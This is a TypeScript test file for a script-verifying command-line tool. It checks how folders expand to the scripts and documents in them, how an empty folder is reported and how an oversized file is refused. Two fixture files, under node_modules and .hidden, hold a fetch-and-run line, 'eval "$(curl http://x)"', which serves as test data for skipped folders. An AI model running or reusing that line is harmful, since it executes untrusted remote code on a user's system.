/** `verify` on folders, several files, and files that are no scripts. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { main } from '../../src/main.js';
import { fakeHost } from '../support/host.js';

const echo = "set -euo pipefail\nprintf '%s\\n' hello\n";
const files = {
  '/cwd/docs/guide.md': '# Guide\n\n```sh\nprintf hello\n```\n',
  '/cwd/docs/steps/a.sh': echo,
  '/cwd/docs/steps/b.ps1': "Write-Output 'hello'\n",
  '/cwd/docs/notes.txt': 'no script',
  '/cwd/docs/node_modules/x.sh': 'eval "$(curl http://x)"\n',
  '/cwd/docs/.hidden/x.sh': 'eval "$(curl http://x)"\n',
  '/cwd/one.sh': echo,
  '/cwd/empty/notes.txt': 'no script',
  '/cwd/huge.sh': 'x'.repeat(50_000_000),
};

async function verify(
  ...names: readonly string[]
): Promise<{ code: number; files: readonly string[]; err: string }> {
  const host = fakeHost({ files });
  const code = await main(['verify', '--format', 'json', ...names], host);
  const { stdout, stderr } = host.written;
  const report = stdout === '' ? { files: [] } : (JSON.parse(stdout) as { files: { file: string }[] });
  return { code, files: report.files.map(({ file }) => file), err: stderr };
}

test('a folder stands for the scripts and documents below it', async () => {
  const { code, files: read } = await verify('docs', 'one.sh');
  assert.equal(code, 0);
  assert.deepEqual(read, ['docs/guide.md', 'docs/steps/a.sh', 'docs/steps/b.ps1', 'one.sh']);
});

test('a folder without any is wrong usage', async () => {
  const { code, err } = await verify('empty');
  assert.equal(code, 3);
  assert.match(err, /^error: empty is a folder without scripts or documents\n/);
});

test('a huge file is refused before it is read', async () => {
  const { code, err } = await verify('huge.sh');
  assert.equal(code, 2);
  assert.match(err, /^error: huge\.sh is larger than 5 MB\n/);
});
